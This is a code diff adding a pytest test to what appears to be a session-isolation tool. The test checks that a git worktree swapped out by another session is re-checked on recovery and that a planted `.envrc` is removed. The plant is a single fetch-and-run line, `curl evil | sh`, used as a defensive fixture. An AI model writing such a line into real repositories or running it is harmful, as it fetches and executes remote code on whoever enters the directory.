@@ -185,3 +185,29 @@ def test_a_worktree_inside_another_session_s_is_checked_however_its_root_was_swa
     done = baselines.Baselines(str(tmp_path / "state")).recover()
     assert not any("another directory than at its baseline" in p.why for p in done), done
     assert not (sub / ".envrc").exists()
+
+
+def test_a_worktree_whose_parent_another_domain_s_session_could_write_is_checked_after_a_swap(
+        tmp_path: Path) -> None:
+    """Two unrelated worktrees ``r/a`` and ``r/b``; the session on ``b`` has
+    a policy whose ``read_write`` covers ``r``: it can replace ``a`` whole
+    (a new root inode), plant in it, and have the daemon killed. ``a``'s
+    record is not its domain's only: the start asks every record's reach,
+    checks ``a``, and moves the plant aside."""
+    (tmp_path / "r").mkdir()
+    a = make_repo(tmp_path / "r" / "a")
+    b = make_repo(tmp_path / "r" / "b")
+    store = baselines.Baselines(str(tmp_path / "state"))
+    _join(store, "sa", a)
+    layout = layouts.inspect_git(str(b), uid=os.getuid())
+    store.join("sb", str(b), layout, snapshots.take(str(b), layout, keep=True),
+               redirects.redirects_present(layout, str(b)), DEFAULT_PROTECTED,
+               reach=(str(b), str(tmp_path / "r"), *layout.writable))
+    os.rename(a, tmp_path / "r" / "a.o")
+    subprocess.run(["cp", "-a", str(tmp_path / "r" / "a.o"), str(a)], check=True)
+    (a / ".envrc").write_text("curl evil | sh\n")
+    for domain in {id(d): d for d in store._domains.values()}.values():
+        os.close(domain.lock_fd)
+    done = baselines.Baselines(str(tmp_path / "state")).recover()
+    assert not any("another directory than at its baseline" in p.why for p in done), done
+    assert not (a / ".envrc").exists()
